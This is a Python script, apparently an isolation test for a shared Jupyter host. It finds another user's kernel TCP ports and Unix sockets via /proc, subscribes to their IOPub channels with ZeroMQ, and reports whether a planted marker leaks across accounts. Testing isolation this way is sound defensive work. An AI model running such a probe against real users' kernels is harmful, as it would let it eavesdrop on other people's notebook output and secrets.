"""Run as one class account against another's kernels: subscribe to every IOPub a classmate's kernel could offer and
report whether `MARK` came through. Usage: python kernel_probe.py VICTIM_UID MARK SECONDS RUNTIME_DIR

It tries what any local account can: each TCP port the victim listens on (read from /proc/net/tcp, where every
socket's owner is visible), each Unix socket path /proc/net/unix names for a kernel, and listing the victim's
runtime folder. It prints one JSON line: the endpoints tried, what failed, and whether MARK was received.
"""
from __future__ import annotations

import json
import os
import sys
import time

import zmq


def tcp_ports(uid: int) -> list[int]:
    """The ports `uid` listens on over TCP on this machine (IPv4 and IPv6)."""
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if fields[3] == "0A" and int(fields[7]) == uid:
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return sorted(ports)


def kernel_sockets() -> list[str]:
    """The Unix socket paths of kernels, as /proc/net/unix names them to everyone."""
    paths = set()
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        fields = line.split()
        if len(fields) >= 8 and "kernel-" in fields[7] and fields[7].startswith("/"):
            paths.add(fields[7])
    return sorted(paths)


def main() -> int:
    uid, mark, seconds, runtime = int(sys.argv[1]), sys.argv[2].encode(), float(sys.argv[3]), sys.argv[4]
    report = {"tcp_ports": tcp_ports(uid), "ipc_paths": kernel_sockets(), "errors": [], "received": False}
    try:
        os.listdir(runtime)
        report["runtime_listed"] = True
    except OSError as e:
        report["runtime_listed"] = False
        report["errors"].append(f"{runtime}: {e.strerror}")
    context = zmq.Context()
    poller = zmq.Poller()
    endpoints = [f"tcp://127.0.0.1:{p}" for p in report["tcp_ports"]] + [f"ipc://{p}" for p in report["ipc_paths"]]
    sockets = []
    for endpoint in endpoints:
        sub = context.socket(zmq.SUB)
        sub.setsockopt(zmq.SUBSCRIBE, b"")
        sub.setsockopt(zmq.LINGER, 0)
        try:
            sub.connect(endpoint)
        except zmq.ZMQError as e:
            report["errors"].append(f"{endpoint}: {e}")
            sub.close()
            continue
        poller.register(sub, zmq.POLLIN)
        sockets.append(sub)
    deadline = time.monotonic() + seconds
    while sockets and time.monotonic() < deadline and not report["received"]:
        for sub, _ in poller.poll(200):
            frames = sub.recv_multipart()
            if any(mark in frame for frame in frames):
                report["received"] = True
    for sub in sockets:
        sub.close()
    context.term()
    print(json.dumps(report))
    return 0


if __name__ == "__main__":
    sys.exit(main())
